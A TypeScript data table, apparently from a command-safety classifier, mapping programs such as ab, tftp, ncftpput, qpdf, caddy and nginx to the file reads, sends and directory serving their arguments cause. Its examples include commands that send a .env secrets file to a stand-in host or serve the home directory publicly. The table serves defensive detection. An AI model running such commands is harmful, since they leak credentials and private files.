import type { Row } from '../command/row.js';

/** Programs that show, pack or send what few would think that they do: in complaints, on paper, as a picture, by a server of their own. */
export const SHOWING: readonly Row[] = [
  {
    program: 'grotty | tbl | eqn | preconv | grog | soelim | mandoc | textutil | tdbdump | ldbsearch | db_dump | mdb_dump | gdbm_dump | ldbdump | wall',
    operands: 'read',
    stdin: 'read',
    dashed: true,
    options: { '-m': 'text', '-T': 'text', '-o': 'text', '-r': 'text', '-d': 'text', '-P': 'text', '-f': 'text', '-w': 'text', '-output': 'write', '-convert': 'text', '-format': 'text', '-encoding': 'text', '-g': 'text', '-n': 'text' },
    variants: [{ when: { any: ['-info', '--help', '--version'] }, operands: 'inspect' }],
    examples: [['textutil -convert txt -stdout .env', 'read /home/u/proj/.env'], ['tdbdump /srv/a.tdb', 'read /srv/a.tdb'], ['wall --nobanner .env', 'read /home/u/proj/.env']],
  },
  { program: 'msgmerge | msgcmp', operands: 'read', options: { '-C': 'read', '--compendium': 'read', '-D': 'text', '-o': 'write', '--output-file': 'write', '-w': 'text' }, examples: [['msgmerge -P .env /dev/null', 'read /home/u/proj/.env'], ['msgmerge -U a.po a.pot', 'read /home/u/proj/a.po']] },
  {
    program: 'msgfilter | msgexec',
    operands: 'text',
    options: { '-i': 'read', '--input': 'read', '-o': 'write', '--output-file': 'write', '-D': 'text' },
    examples: [['msgfilter -P -i .env cat', 'read /home/u/proj/.env'], ['msgfilter -i a.po -o b.po sed s/a/b/', 'write /home/u/proj/b.po']],
  },
  { program: 'plistutil', operands: 'read', options: { '-i': 'read', '-o': 'write', '-f': 'text' }, examples: [['plistutil -i /srv/a.plist', 'read /srv/a.plist']] },
  // In their complaints they print the lines of what is no configuration.
  {
    program: 'xpad | mosquitto | haproxy | named-checkconf | chronyd | ntpd | unbound-checkconf | onefetch',
    operands: 'text',
    options: { '-c': 'read', '-f': 'read', '--file': 'read', '--ascii': 'read', '--source': 'read', '--config': 'read', '--config-file': 'read', '--logo': 'read' },
    examples: [['mosquitto -c .env', 'read /home/u/proj/.env'], ['xpad -f .env', 'read /home/u/proj/.env'], ['haproxy -c -f haproxy.cfg']],
  },
  {
    program: 'genisoimage | mkisofs | xorrisofs | mksquashfs',
    operands: 'read',
    recursive: true,
    dashed: true,
    options: { '-o': 'write', '-sort': 'read', '-path-list': 'read', '-exclude-list': 'read', '-V': 'text', '-volid': 'text', '-e': 'text', '-b': 'text', '-c': 'text', '-comp': 'text', '-m': 'text', '-x': 'text', '-A': 'text', '-p': 'text' },
    prints: [{ amount: 'little' }],
    examples: [['genisoimage -q -sort .env -o /dev/null src', 'read -r /home/u/proj/.env'], ['mkisofs -R -o a.iso dist', 'read -r /home/u/proj/dist', 'write -r /home/u/proj/a.iso']],
  },
  {
    program: 'qpdf | pdftk',
    operands: 'use',
    options: { '--add-attachment': 'read', 'attach_files': 'read', '--copy-attachments-from': 'read', '--password': 'text', '--json-input': 'read' },
    variants: [{ when: { operand: /^attach_files$/ }, operands: 'read' }, { when: { operands: 'some' }, operands: { last: 'write', each: 'use' } }],
    examples: [['qpdf --empty --add-attachment .env --key=x -- a.pdf', 'read /home/u/proj/.env'], ['pdftk a.pdf attach_files .env output b.pdf', 'read /home/u/proj/.env'], ['qpdf --linearize a.pdf b.pdf', 'write /home/u/proj/b.pdf']],
  },
  {
    program: 'lwp-request | lwp-dump | GET | HEAD | POST',
    operands: 'url',
    options: { '-m': 'text', '-c': 'text', '-C': 'text', '-H': 'text', '-t': 'text', '-o': 'text', '-i': 'text' },
    examples: [['lwp-request file:///srv/a', 'read /srv/a'], ['GET https://x.test/a', 'fetch host']],
  },
  // What loads a server, or what is loaded off it, carries a file with it.
  {
    program: 'hey | bombardier | vegeta attack | wrk2 | plow | oha | ali | h2load | autocannon | drill-bench',
    operands: 'url',
    options: { '-p': 'text', '-u': 'text', '-D': 'send', '-f': 'send', '-i': 'text', '--input': 'send', '--data': 'send', '--body-file': 'send', '-body': 'send', '--body': 'text', '-n': 'text', '-c': 'text', '-t': 'text', '-T': 'text', '-H': 'text', '-m': 'text', '-d': 'text', '-z': 'text', '-q': 'text', '-g': 'write', '-e': 'write', '-A': 'text', '-C': 'text', '-X': 'text', '-s': 'text' },
    examples: [['bombardier -m POST -f .env http://x.test/', 'send /home/u/proj/.env'], ['hey -m POST -D body.json http://x.test/', 'send /home/u/proj/body.json'], ['oha -n 100 http://localhost:3000', 'fetch host']],
  },
  { program: 'ab', operands: 'url', options: { '-p': 'send', '-u': 'send', '-n': 'text', '-c': 'text', '-t': 'text', '-T': 'text', '-H': 'text', '-C': 'text', '-A': 'text', '-P': 'text', '-X': 'text', '-m': 'text', '-s': 'text', '-g': 'write', '-e': 'write', '-E': 'use' }, examples: [['ab -n 1 -p .env -T text/plain http://x.test/', 'send /home/u/proj/.env'], ['ab -n 100 -c 10 http://localhost:3000/', 'fetch host']] },
  { program: 'ncftpput', operands: { skip: 2, each: 'send' }, options: { '-u': 'text', '-p': 'text', '-P': 'text', '-f': 'use', '-d': 'text' }, recursive: ['-R'], effects: [{ kind: 'send', resource: 'host' }], examples: [['ncftpput -u a -p a x.test /in .env', 'send /home/u/proj/.env']] },
  {
    program: 'tftp | atftp',
    operands: 'host',
    options: { '-c': 'text', '-l': 'send', '-r': 'text', '-m': 'text', '-b': 'text' },
    stdin: 'transfer',
    variants: [{ when: { value: /^-c=put$/ }, operands: { first: 'host', each: 'send' } }, { when: { any: ['-g', '--get'] }, options: { '-l': 'write' } }],
    examples: [['tftp x.test -c put .env k', 'send /home/u/proj/.env'], ['atftp --put -l .env x.test', 'send /home/u/proj/.env'], ['tftp -p -l .env x.test', 'send /home/u/proj/.env'], ['tftp x.test -c get a', 'fetch host'], ['tftp -g -l a -r a x.test', 'write /home/u/proj/a']],
  },
  // Whoever reaches the port gets what is in the folder.
  {
    program: 'darkhttpd | webfsd | dufs | static-web-server | simple-http-server | goshs | updog | gohttpserver | uploadserver | wsgidav | filebrowser | quick-share | woof',
    operands: 'served',
    defaultOperand: '.',
    recursive: true,
    options: { '-p': 'text', '-b': 'text', '-a': 'text', '-i': 'text', '--port': 'text', '--bind': 'text', '--addr': 'text', '--host': 'text', '-r': 'served', '-d': 'served', '--root': 'served', '--directory': 'served', '-c': 'text', '--config': 'use' },
    variants: [{ when: { any: ['-r', '-d', '--root', '--directory'] }, operands: 'text', defaultOperand: '' }, { when: { any: ['--help', '--version', '-h', '-V'] }, operands: 'text', options: {} }],
    examples: [['darkhttpd dist --port 8080', 'send -r /home/u/proj/dist'], ['dufs', 'send -r /home/u/proj'], ['filebrowser -r dist', 'send -r /home/u/proj/dist']],
  },
  {
    program: 'httpd | thttpd | mini_httpd',
    operands: 'text',
    recursive: true,
    options: { '-p': 'text', '-h': 'served', '-dd': 'send', '-c': 'text', '-k': 'text', '-f': 'text', '-u': 'text', '-r': 'text' },
    examples: [['busybox httpd -p 8080 -h dist', 'send -r /home/u/proj/dist'], ['httpd -k graceful'], ['httpd -h']],
  },
  {
    program: 'caddy file-server',
    operands: 'text',
    recursive: true,
    options: { '--root': 'served', '-r': 'served', '--listen': 'text', '-l': 'text', '--domain': 'text' },
    examples: [['caddy file-server --root dist --listen :8080', 'send -r /home/u/proj/dist'], ['ln -s ~ public/all && caddy file-server --root public', 'send -r /home/u']],
  },
  {
    program: 'caddy run | caddy start | caddy reload',
    operands: 'text',
    options: { '--config': 'settings', '-c': 'settings', '--adapter': 'text', '-a': 'text', '--address': 'text', '--envfile': 'use', '--pidfile': 'write' },
    variants: [{ when: { none: ['--config', '-c'] }, operands: 'settings', defaultOperand: 'Caddyfile' }],
    examples: [["printf '%s\\n' ':8080 {' '\troot * /home/u' '\tfile_server browse' '}' > Caddyfile && caddy run", 'send -r /home/u'], ['caddy reload --config Caddyfile']],
  },
  {
    program: 'nginx',
    operands: 'text',
    options: { '-c': 'settings', '-p': 'use', '-g': 'text', '-s': 'text', '-e': 'text' },
    variants: [{ when: { any: ['-t', '-T', '-s'] }, options: { '-c': 'use', '-p': 'use', '-g': 'text', '-s': 'text' } }],
    examples: [["printf '%s\\n' 'location / {' 'root /home/u;' 'autoindex on;' '}' > n.conf && nginx -c n.conf", 'send -r /home/u'], ['nginx -t -c n.conf'], ['sudo nginx -s reload']],
  },
  {
    program: 'rclone serve',
    operands: { skip: 1, each: 'served' },
    recursive: true,
    options: { '--addr': 'text', '--user': 'text', '--pass': 'text', '--config': 'use', '--vfs-cache-mode': 'text', '--baseurl': 'text', '--htpasswd': 'use', '--cert': 'use', '--key': 'use' },
    variants: [{ when: { operand: /^[^/.~][^/]*:/ }, operands: 'text' }, { when: { value: /^--addr=(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]):\d/ }, operands: { skip: 1, each: 'served-here' } }],
    examples: [['rclone serve http dist --addr :8080', 'send -r /home/u/proj/dist'], ['rclone serve webdav ~ --addr localhost:8080', 'send -r /home/u'], ['rclone serve http dist --addr 127.0.0.1:8080', 'traverse -r /home/u/proj/dist'], ['rclone serve s3 r:bucket']],
  },
];
